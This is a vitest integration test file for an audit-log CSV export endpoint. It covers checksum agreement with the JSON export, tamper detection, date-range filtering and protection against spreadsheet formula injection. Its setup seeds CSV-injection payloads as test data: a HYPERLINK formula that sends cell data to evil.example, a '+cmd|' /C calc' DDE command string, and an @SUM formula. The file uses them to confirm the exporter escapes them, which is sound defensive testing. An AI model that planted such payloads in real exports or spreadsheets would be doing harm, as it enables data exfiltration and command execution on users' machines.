// GET /audit/export?format=csv&download=true through real HTTP: same entries and checksum as JSON, spotctl verify, tamper, date range, formula safety.
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../operator/cli/main.js";
import { commands } from "../../operator/cli/commands/index.js";
import { AUDIT_CSV_COLUMNS, parseCsvRecords } from "../../src-shared/audit/csv.js";
import { createAuditChainStore } from "../../src-shared/audit/writer.js";
import { startTestFacade, type SignedUp, type TestFacade } from "../support/facade.js";

const DAY_MS = 86_400_000;
const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]): number => AUDIT_CSV_COLUMNS.indexOf(name);
/** What a spreadsheet would evaluate as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestFacade;
let owner: SignedUp;
let other: SignedUp;
/** Email of a member whose address starts with a formula character (valid as an email). */
const formulaEmail = "-2+3@example.com";
const dir = mkdtempSync(join(tmpdir(), "facade-audit-csv-"));

async function verifyText(text: string, name: string): Promise<{ code: number; out: string; err: string }> {
  const path = join(dir, name);
  writeFileSync(path, text);
  let out = "";
  let err = "";
  const code = await runCli(["audit", "verify", path], commands, {
    stdout: (s) => (out += s),
    stderr: (s) => (err += s),
  });
  return { code, out, err };
}

/** Rows back to CSV text with RFC 4180 quoting, as an editor that changed one cell would save them. */
function unparse(rows: string[][]): string {
  return (
    rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(",")).join("\r\n") +
    "\r\n"
  );
}

async function exportCsv(query = ""): Promise<{ text: string; rows: string[][]; headers: Headers; status: number }> {
  const res = await t.call("GET", `/audit/export?format=csv&download=true${query}`, { token: owner.accessToken });
  return { text: res.text, rows: parseCsvRecords(res.text), headers: res.headers, status: res.status };
}

beforeAll(async () => {
  t = await startTestFacade();
  owner = await t.signup("Csv Org");
  other = await t.signup("Other Csv Org");
  // Mutating requests of the owner and of a member whose email starts with "-".
  const invite = await t.call("POST", "/settings/invite", {
    token: owner.accessToken,
    body: { email: formulaEmail, role: "admin" },
  });
  expect(invite.status).toBe(201);
  const accepted = await t.call("POST", "/api/auth/accept-invite", {
    body: { invite_token: t.mailedCode(formulaEmail), password: "MemberPass123!" },
  });
  expect(accepted.status).toBe(201);
  await t.call("POST", "/settings/invite", {
    token: accepted.body.access_token,
    body: { email: "auditor@example.com", role: "viewer" },
  });
  await t.call("PATCH", "/audit/retention", { token: owner.accessToken, body: { retention_days: 365 } });
  expect(
    (await t.call("PATCH", "/settings/context", { token: owner.accessToken, body: { account_id: "nope" } })).status,
  ).toBe(404);
  // A controller-style writer records values a spreadsheet would otherwise evaluate.
  const store = createAuditChainStore({ client: t.client });
  await store.record({
    namespace: owner.namespace,
    actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    event: "@SUM(1+1)",
    resource: "+cmd|' /C calc'!A0",
    outcome: "success",
    before: { note: "=1+1" },
    after: { lines: 'two\r\nlines, "quoted"', n: -5 },
  });
  await store.record({
    namespace: owner.namespace,
    actor: "system:test",
    event: "\tTAB",
    resource: "'quoted",
    outcome: "failure",
  });
});

afterAll(async () => {
  await t?.stop();
});

describe("GET /audit/export?format=csv", () => {
  it("answers a CSV attachment with the JSON export's entries and checksum, which spotctl audit verify accepts", async () => {
    const csv = await exportCsv();
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toBe(`attachment; filename="audit-export-${owner.orgId}.csv"`);
    const json = await t.call("GET", "/audit/export", { token: owner.accessToken });
    expect(json.body.count).toBeGreaterThanOrEqual(6);
    expect(csv.headers.get("x-audit-checksum")).toBe(json.body.checksum);
    expect(json.headers.get("x-audit-checksum")).toBe(json.body.checksum);

    expect(csv.rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    const entryRows = csv.rows.filter((r) => r[col("record")] === "entry");
    expect(entryRows.map((r) => [r[col("id")], r[col("seq")], r[col("prev_hash")], r[col("hash")]])).toEqual(
      json.body.entries.map((e: { id: string; seq: number; prevHash: string; hash: string }) => [
        e.id,
        String(e.seq),
        e.prevHash,
        e.hash,
      ]),
    );
    const checksumRow = csv.rows.find((r) => r[col("record")] === "checksum")!;
    expect(checksumRow[col("hash")]).toBe(json.body.checksum);
    expect(checksumRow[col("namespace")]).toBe(owner.namespace);

    const verified = await verifyText(csv.text, "good.csv");
    expect(verified.code).toBe(0);
    expect(JSON.parse(verified.out)).toMatchObject({
      ok: true,
      format: "csv",
      namespace: owner.namespace,
      entries: json.body.count,
      checksum: json.body.checksum,
    });
    // Another organisation's CSV holds only its own chain.
    const theirs = parseCsvRecords(
      (await t.call("GET", "/audit/export?format=csv&download=true", { token: other.accessToken })).text,
    );
    expect(theirs.slice(1).every((r) => r[col("namespace")] === other.namespace)).toBe(true);
    expect((await t.call("GET", "/audit/export?format=xml", { token: owner.accessToken })).status).toBe(422);
  });

  it("is described in the OpenAPI document with both content types", async () => {
    const op = (await t.call("GET", "/openapi.json")).body.paths["/audit/export"].get;
    expect(Object.keys(op.responses["200"].content).sort()).toEqual(["application/json", "text/csv"]);
    expect(op.description).toMatch(/format=csv/);
    expect(op.description).toMatch(/X-Audit-Checksum/);
    expect(op.parameters.find((p: { name: string }) => p.name === "format").schema.enum).toEqual(["json", "csv"]);
  });

  it("fails verification naming the row when any cell is flipped, any row deleted or the checksum edited", async () => {
    const { rows } = await exportCsv();
    const entryRows = rows.flatMap((r, i) => (r[col("record")] === "entry" ? [i] : []));
    for (const i of entryRows) {
      const flipped = rows.map((r) => [...r]);
      flipped[i]![col("outcome")] = flipped[i]![col("outcome")] === "success" ? "failure" : "success";
      const changed = await verifyText(unparse(flipped), `flipped-${i}.csv`);
      expect(changed.code).toBe(1);
      expect(JSON.parse(changed.out)).toMatchObject({
        first_bad_row: i + 1,
        first_bad_entry: { id: rows[i]![col("id")] },
      });
      expect(JSON.parse(changed.out).reason).toMatch(new RegExp(`^row ${i + 1} `));

      const deleted = await verifyText(unparse(rows.filter((_, j) => j !== i)), `deleted-${i}.csv`);
      expect(deleted.code).toBe(1);
      // The row that moved into the deleted one's place no longer follows its predecessor.
      expect(JSON.parse(deleted.out).first_bad_row).toBe(i + 1);
    }
    const last = entryRows.at(-1)!;
    const actorEdited = rows.map((r) => [...r]);
    actorEdited[last]![col("actor")] = "someone-else@example.com";
    expect(JSON.parse((await verifyText(unparse(actorEdited), "actor.csv")).out).first_bad_row).toBe(last + 1);

    const checksumAt = rows.findIndex((r) => r[col("record")] === "checksum");
    const badChecksum = rows.map((r) => [...r]);
    badChecksum[checksumAt]![col("hash")] = `sha256:${"0".repeat(64)}`;
    const c = await verifyText(unparse(badChecksum), "checksum.csv");
    expect(c.code).toBe(1);
    expect(JSON.parse(c.out)).toMatchObject({
      first_bad_row: checksumAt + 1,
      reason: expect.stringMatching(/checksum/),
    });
    const noChecksum = await verifyText(unparse(rows.filter((_, j) => j !== checksumAt)), "no-checksum.csv");
    expect(noChecksum.code).toBe(1);
    expect(JSON.parse(noChecksum.out).reason).toMatch(/checksum row is missing/);

    const broken = await verifyText(csvWithUnclosedQuote(rows), "broken.csv");
    expect(broken.code).toBe(2);
    expect(broken.err).toMatch(/broken\.csv: row \d+/);
  });

  it("exports only the entries of start_date..end_date, anchored so the range verifies on its own", async () => {
    // A replica whose clock is 3 days ahead writes entries on a later day.
    const later = await t.startReplica({ now: () => new Date(Date.now() + 3 * DAY_MS) });
    const token = (
      await t.call("POST", "/api/auth/token", { body: { email: owner.email, password: owner.password } }, later)
    ).body.access_token;
    await t.call("POST", "/settings/invite", { token, body: { email: "late@example.com", role: "viewer" } }, later);
    const all = (await t.call("GET", "/audit/export", { token: owner.accessToken })).body;
    // Days read from the chain itself, not the wall clock, so that a run across UTC midnight still holds.
    const days = all.entries.map((e: { timestamp: string }) => e.timestamp.slice(0, 10));
    const today: string = days[0];
    const laterDay: string = days[days.length - 1];
    expect(laterDay > today).toBe(true);
    for (const query of [`&start_date=${laterDay}`, `&end_date=${today}`, `&start_date=${today}&end_date=${today}`]) {
      const csv = await exportCsv(query);
      const json = (await t.call("GET", `/audit/export?format=json${query}`, { token: owner.accessToken })).body;
      const entries = csv.rows.filter((r) => r[col("record")] === "entry");
      expect(entries.length).toBe(json.count);
      expect(entries.length).toBeGreaterThan(0);
      expect(entries.length).toBeLessThan(all.count);
      expect(entries.map((r) => r[col("id")])).toEqual(json.entries.map((e: { id: string }) => e.id));
      const day = (r: string[]): string => r[col("timestamp")]!.slice(0, 10);
      if (query.includes("start_date"))
        expect(entries.every((r) => day(r) >= query.match(/start_date=([\d-]+)/)![1]!)).toBe(true);
      if (query.includes("end_date"))
        expect(entries.every((r) => day(r) <= query.match(/end_date=([\d-]+)/)![1]!)).toBe(true);
      expect(csv.headers.get("x-audit-checksum")).toBe(json.checksum);
      const anchor = csv.rows.find((r) => r[col("record")] === "anchor")!;
      expect(anchor[col("hash")]).toBe(json.anchor.hash);
      expect((await verifyText(csv.text, `range-${query.length}.csv`)).code).toBe(0);
    }
    const empty = await exportCsv("&start_date=2999-01-01");
    expect(empty.rows.filter((r) => r[col("record")] === "entry")).toEqual([]);
    expect((await verifyText(empty.text, "empty.csv")).code).toBe(0);
    expect(
      (
        await t.call("GET", `/audit/export?format=csv&download=true&start_date=${laterDay}&end_date=${today}`, {
          token: owner.accessToken,
        })
      ).status,
    ).toBe(422);
  });

  it("writes no cell a spreadsheet would evaluate, and the protected values verify and read back unchanged", async () => {
    const { text, rows } = await exportCsv();
    for (const cell of rows.flat()) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    const json = (await t.call("GET", "/audit/export", { token: owner.accessToken })).body;
    const evil = json.entries.find((e: { event: string }) => e.event === "@SUM(1+1)");
    const evilRow = rows.find((r) => r[col("id")] === evil.id)!;
    expect(evilRow[col("actor")]).toBe(`'${evil.actor}`);
    expect(evilRow[col("event")]).toBe("'@SUM(1+1)");
    expect(evilRow[col("resource")]).toBe("'+cmd|' /C calc'!A0");
    expect(JSON.parse(evilRow[col("after")]!)).toEqual(evil.after);
    const tabRow = rows.find((r) => r[col("event")] === "'\tTAB")!;
    expect(tabRow[col("resource")]).toBe("''quoted");
    const memberRows = rows.filter((r) => r[col("actor")] === `'${formulaEmail}`);
    expect(memberRows.length).toBeGreaterThan(0);
    // The JSON export holds the raw values; the CSV converts back to exactly them (same checksum), so it verifies.
    expect(json.entries.some((e: { actor: string }) => e.actor === formulaEmail)).toBe(true);
    const verified = await verifyText(text, "formulas.csv");
    expect(verified.code).toBe(0);
    expect(JSON.parse(verified.out).checksum).toBe(json.checksum);
    // A leading ' the exporter would not have written makes the file malformed: each value has exactly one spelling.
    const unprotected = rows.map((r) => [...r]);
    unprotected[rows.indexOf(tabRow)]![col("resource")] = "'quoted";
    expect((await verifyText(unparse(unprotected), "unprotected.csv")).code).toBe(2);
  });
});

/** The export with one more row whose quoted cell is never closed. */
function csvWithUnclosedQuote(rows: string[][]): string {
  return unparse(rows) + 'entry,"unclosed\r\n';
}
